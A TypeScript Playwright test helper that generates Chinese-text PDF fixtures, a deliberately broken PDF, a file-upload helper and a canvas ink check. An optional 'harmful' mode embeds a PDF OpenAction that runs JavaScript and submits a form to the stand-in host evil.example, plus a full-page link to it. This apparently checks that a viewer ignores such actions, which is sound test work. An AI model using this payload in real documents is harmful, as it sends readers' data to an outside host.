/** PDFs for tests, made here so that what they hold can be read. */
import { Buffer } from 'node:buffer';
import type { Page } from '@playwright/test';

/** What a PDF names and a reader must never do. */
const harm =
  '/OpenAction<</S/JavaScript/JS(app.alert\\(1\\);this.submitForm\\("http://evil.example/"\\))>>/AA<</O 90 0 R>>';

interface Given {
  /** What stands on each page, a line or several. */
  pages: readonly (readonly string[])[];
  box?: readonly [number, number];
  harmful?: boolean;
}

/** Chinese text in 宋体 that is not in the file, as many an office program leaves it: Adobe-GB1 without a font. */
export function aChinesePdf({ pages, box = [595, 842], harmful = false }: Given): Buffer {
  const kids = pages.map((_, n) => `${10 + 2 * n} 0 R`).join(' ');
  const objects = [
    `1 0 obj<</Type/Catalog/Pages 2 0 R${harmful ? harm : ''}>>endobj`,
    `2 0 obj<</Type/Pages/Kids[${kids}]/Count ${pages.length}>>endobj`,
    '3 0 obj<</Type/Font/Subtype/Type0/BaseFont/STSong-Light/Encoding/UniGB-UCS2-H/DescendantFonts[4 0 R]>>endobj',
    '4 0 obj<</Type/Font/Subtype/CIDFontType0/BaseFont/STSong-Light/FontDescriptor 5 0 R/DW 1000' +
      '/CIDSystemInfo<</Registry(Adobe)/Ordering(GB1)/Supplement 2>>>>endobj',
    '5 0 obj<</Type/FontDescriptor/FontName/STSong-Light/Flags 6/FontBBox[-25 -254 1000 880]/ItalicAngle 0' +
      '/Ascent 880/Descent -120/CapHeight 880/StemV 93>>endobj',
    ...pages.flatMap((lines, n) => page(10 + 2 * n, lines, box, harmful)),
  ];
  return Buffer.from(`%PDF-1.4\n${objects.join('\n')}\ntrailer<</Root 1 0 R>>\n%%EOF\n`, 'latin1');
}

function page(id: number, lines: readonly string[], [width, height]: readonly [number, number], harmful: boolean) {
  const shown = lines.map((line) => `<${Buffer.from(line, 'utf16le').swap16().toString('hex')}> Tj T*`).join('\n');
  const body = `BT /F1 24 Tf 36 TL 60 ${height - 100} Td\n${shown}\nET`;
  const link = '/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 595 842]/A<</S/URI/URI(http://evil.example/)>>>>]';
  return [
    `${id} 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 ${width} ${height}]/Contents ${id + 1} 0 R` +
      `/Resources<</Font<</F1 3 0 R>>>>${harmful ? link : ''}>>endobj`,
    `${id + 1} 0 obj<</Length ${body.length}>>stream\n${body}\nendstream\nendobj`,
  ];
}

/** Begins like a PDF and is none. */
export const aBrokenPdf = (): Buffer => Buffer.from(`%PDF-1.7\n${'xyz '.repeat(400)}\n%%EOF\n`);

/** Sends a file as the chair's page does, without its form. @returns its id */
export async function attach(
  page: Page,
  at: string,
  name: string,
  bytes: Buffer,
  kind = 'attachment',
): Promise<string> {
  return page.evaluate(
    async ([path, asked, text]) => {
      const body = Uint8Array.from(atob(text), (letter) => letter.charCodeAt(0));
      const headers = { 'content-type': 'application/octet-stream' };
      const answer = await fetch(`${path}?${asked}`, { method: 'POST', headers, body });
      const sent = (await answer.json()) as { file?: string };
      if (sent.file === undefined) throw new Error(JSON.stringify(sent));
      return sent.file;
    },
    [at, new URLSearchParams({ kind, name, command: newId() }).toString(), bytes.toString('base64')] as const,
  );
}
const newId = () => Array.from({ length: 32 }, () => Math.floor(Math.random() * 16).toString(16)).join('');

/** How many of a hundred dots of the page in sight are dark; 0: it is blank. Null: none is drawn. */
export function inkOf(page: Page): Promise<number | null> {
  return page.evaluate(() => {
    const canvas = document.querySelector<HTMLCanvasElement>('[role=img] canvas');
    const pen = canvas?.getContext('2d', { willReadFrequently: true });
    if (!canvas || !pen) return null;
    const { data } = pen.getImageData(0, 0, canvas.width, canvas.height);
    let dark = 0;
    for (let at = 0; at < data.length; at += 4) if ((data[at] ?? 255) < 128) dark += 1;
    return (dark / (data.length / 4)) * 100;
  });
}
